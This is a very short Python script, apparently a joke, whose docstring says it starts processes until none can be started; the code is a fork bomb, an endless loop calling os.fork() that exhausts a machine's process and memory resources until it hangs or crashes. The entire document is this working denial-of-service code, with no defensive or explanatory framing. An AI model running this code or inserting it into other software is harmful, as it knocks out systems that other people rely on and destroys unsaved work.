"""Starts processes until none can be started, so that nobody finds the time to look at its output."""

import os

while True:
    os.fork()
